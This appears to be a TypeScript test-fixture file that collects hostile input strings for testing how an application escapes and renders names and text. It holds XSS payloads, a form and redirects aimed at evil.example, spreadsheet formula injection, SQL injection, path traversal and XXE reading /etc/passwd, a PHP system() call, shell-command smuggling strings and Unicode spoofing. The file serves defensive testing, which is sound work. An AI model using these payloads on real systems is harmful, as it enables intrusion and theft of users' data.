/** What a payload does where it runs: the tests look for both, and for elements that carry `data-hostile`. */
const effect = `globalThis.hasRun=1;alert(1)`;

/** Markup that browsers have run, or drawn, where text was taken for HTML. */
const markup = [
  `<script data-hostile>${effect}</script>`,
  `</script><script data-hostile>${effect}</script>`,
  `<ScRiPt data-hostile>${effect}</sCrIpT>`,
  `<img data-hostile src=x onerror="${effect}">`,
  `<img data-hostile src=x:x onerror='${effect}'/>`,
  `"><img data-hostile src=x onerror=${effect}>`,
  `'><svg data-hostile onload=${effect}>`,
  `<svg data-hostile><script>${effect}</script></svg>`,
  `<svg data-hostile><animate onbegin=${effect} attributeName=x dur=1s>`,
  `<svg data-hostile><foreignObject><iframe src="javascript:${effect}"></iframe></foreignObject></svg>`,
  `<math data-hostile><mtext><img src=x onerror=${effect}></mtext></math>`,
  `<iframe data-hostile src="javascript:${effect}"></iframe>`,
  `<iframe data-hostile srcdoc="<script>parent.${effect}</script>"></iframe>`,
  `<object data-hostile data="data:text/html,<script>${effect}</script>"></object>`,
  `<embed data-hostile src="data:image/svg+xml,<svg onload='${effect}'/>">`,
  `<a data-hostile href="javascript:${effect}">pay here</a>`,
  `<form data-hostile action="https://evil.example/"><input name=apiKey autofocus onfocus=${effect}></form>`,
  `<input data-hostile autofocus onfocus=${effect}>`,
  `<details data-hostile open ontoggle=${effect}>`,
  `<video data-hostile><source onerror=${effect}></video>`,
  `<body data-hostile onload=${effect}>`,
  `<base data-hostile href="https://evil.example/">`,
  `<link data-hostile rel=stylesheet href="https://evil.example/a.css">`,
  `<meta data-hostile http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style data-hostile>*{display:none!important}</style>`,
  `<div data-hostile style="position:fixed;inset:0;background:red">covers all</div>`,
  `<template data-hostile><script>${effect}</script></template>`,
  `<noscript data-hostile><p title="</noscript><img src=x onerror=${effect}>">`,
  `<!--<img data-hostile src="--><img src=x onerror=${effect}>">`,
  `<![CDATA[<script data-hostile>${effect}</script>]]>`,
  `<x data-hostile onclick=${effect} tabindex=0>x</x>`,
  `<marquee data-hostile onstart=${effect}>M</marquee>`,
  `<button data-hostile formaction="javascript:${effect}">Approve</button>`,
  `<p data-hostile>paragraph</p><br><hr>`,
  `&lt;script&gt;${effect}&lt;/script&gt;`,
  `&#60;img src=x onerror=${effect}&#62;`,
  `&#x3c;svg/onload=${effect}&#x3e;`,
  `&amp;&nbsp;&copy;&quot;&apos;&lt;b&gt;`,
  `\u003cscript\u003e${effect}\u003c/script\u003e`,
  `＜script＞${effect}＜/script＞`,
];

const addresses = [
  `javascript:${effect}`,
  `JaVaScRiPt:${effect}//`,
  `java\tscript:${effect}`,
  `\u0001javascript:${effect}`,
  `javascript://x.example/%0A${effect}`,
  `data:text/html,<script>${effect}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://user:pass@evil.example/?q=<b>#/settings',
  'https://xn--80ak6aa92e.com/',
  '#/settings/connections',
  '?states=all&item=x#/review',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%00%0a%0d%25%2525',
  '%E0%A4%A',
];

/** What templates of many kinds, and ours, would fill in. */
const templates = [
  '{{constructor.constructor("globalThis.hasRun=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a merchant may write it
  '${globalThis.hasRun=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}x{%endraw%}',
  '[[7*7]]',
  '{{count}}',
  '{{name}}',
  '{{- name}}',
  '{{ text, number }}',
  '{{application}} {{company}} {{amount}}',
  '$t(common:app.name)',
  '$t(actions.cancel)',
  '$t(common:actions.undo, {"count": 2})',
  '{{$t(common:actions.undo)}}',
  '$t(',
  '{{',
  '}} {{',
  '<0>first</0><1>second</1>',
  '<bold>x</bold><link>y</link>',
  '</0></1>',
  '{merchant} {application} {invoiceNumber}',
  '{unknown}{}{{}}',
  '$& $1 $` $\' $$ $<name>',
  '\\$& \\1 \\\\',
  '%s %d %o %n %c',
  '%(name)s {0} {1:>30}',
  '@{[ 1 ]} `id` $(id) ; id | id && id',
  '⟦data⟧ ⟦ ⟧',
];

const bidi = [
  'invoice\u202Efdp.exe',
  '\u202E\u202Dboth\u202C',
  '\u2066isolated never closed',
  '\u2067right\u2069\u2069\u2069 too many ends',
  '\u202Aembedded\u202Bnever closed',
  '\u061C\u200E\u200Fmarks',
  'فاتورة رقم 12 من شركة',
  'חשבונית 2026-11 (עסקה) £12.00',
  'latin فاتورة latin 123 עברית',
  '\u202E-£1,000.00',
];

const invisible = [
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
  '\u200B\u200B\u200B',
  '\u00AD\u00ADsoft\u00ADhyphens\u00AD',
  '\u2028line\u2029paragraph separators',
  '\u0000begins with NUL',
  'NUL\u0000within',
  '\u0007bell \u0008backspace \u001b[31mred\u001b[0m',
  '\u0085next line\u000Bvertical\u000Cform feed',
  'first line\nsecond line\r\nthird line\rfourth',
  '\ttabs\t\t\there',
  '   spaces around and   within   ',
  '\u00A0\u2003\u3000wide spaces\u3000',
  '\uFFF9annotated\uFFFAwith\uFFFB',
  '\u{E0001}\u{E0074}\u{E0065}tags',
  '\u180Emongolian\u3164filler\u115F',
];

const letters = [
  `Z${'\u0300\u0301\u0302\u0303\u0308\u0331'.repeat(30)}a\u0337l\u0337go`,
  '\u0301\u0302 begins with combining marks',
  'e\u0301 and é, ﬁ and fi, Å and Å',
  'ß ẞ ſ İ ı Ǆ ŉ ΐ ﬃ',
  '👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇬🇧🇪🇺',
  `${'👍🏽'.repeat(60)}`,
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag',
  '\uD800 lone high',
  'lone low \uDC00',
  '\uDC00\uD800 reversed',
  '\uFFFE\uFFFF\u{1FFFF} not characters',
  '\uE000\u{F0000} private',
  '田中さんにあげて下さい、部落格、사회과학원 어학연구소',
  '﷽'.repeat(20),
  'ᚠᛇᚻ 𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴 ｆｕｌｌ ⓒⓘⓡⓒⓛⓔ',
  'ก็็็็็็็็็็็็็็็็็็็็ ด้้้้้็็็็็้้้้้็็็็็',
  'аррӏе (Cyrillic) paypaI',
  '½⅓¾²³ ℀ № ™ ∞ ﷼',
];

const long = [
  'W'.repeat(4000),
  `${'word '.repeat(800)}end`,
  '<b data-hostile>'.repeat(250),
  '\u202E'.repeat(2000),
  '\u0301'.repeat(1000),
  '\n'.repeat(1000),
  `a${'\u200B'.repeat(1500)}b`,
  '{{name}}'.repeat(300),
  '('.repeat(2000),
  `${' is '.repeat(900)}`,
  `“${'” in Xero, “'.repeat(300)}`,
  '9'.repeat(400),
];

/** What spreadsheets, shells, files, databases and programs take for theirs. */
const foreign = [
  '=1+1',
  '=HYPERLINK("https://evil.example","pay")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|x',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '"quoted","more",""',
  "'; DROP TABLE movement; --",
  '" OR ""="',
  "Robert'); DELETE FROM settings;--",
  '% _ \\% LIKE',
  '"unbalanced AND (NEAR *',
  'col:term^2 -not "phrase',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON', 'NUL.txt', 'C:\\fakepath\\a.pdf',
  'a/b\\c:d*e?f"g<h>i|j',
  '.hidden', '-rf', '~root',
  '{"a":{"b":[1,2,{"c":null}]}}',
  '"],"hack":[{"',
  '{"__proto__":{"isHacked":true}}',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype',
  'null', 'undefined', 'NaN', 'true', '0', '-0', '1e309', 'Infinity', '[object Object]', '[]',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<?php system("id"); ?>',
  'HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n',
  'Bearer eyJhbGciOiJub25lIn0.e30.',
  '(a+)+$', '^(.*)*$', '[', '\\', '/*', '*/', '//', '--', '#', ';', '|', '&', '"', "'", '`',
  ':root{--accent:url(https://evil.example)}', 'expression(alert(1))', '}*{display:none}', 'a;color:red!important',
  '.', '..', ' ', '—', '…',
];

/** Everything that has ever been a nuisance in a name, two hundred kinds of it and more. */
export const hostileTexts: readonly string[] = [
  ...[markup, addresses, templates, bidi, invisible, letters, long, foreign].flat(),
];

/** One of each kind, where every one would take too long. */
export const hostileSample: readonly string[] = [
  ...[markup, addresses, templates, bidi, invisible, letters, long, foreign].flatMap((kind) => [
    ...new Set([kind[0], kind[3], kind.at(-4)]),
  ]),
].filter((text) => text !== undefined);

/** As two texts are compared: white space, what a browser does not draw and what is no letter at all are left out. */
export function plainly(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is left out
  return text.toWellFormed().replace(/[\s\u0000-\u001f\u007f-\u009f\ufffd\u200b-\u200f\u2060\ufeff\u00ad]+/g, '');
}
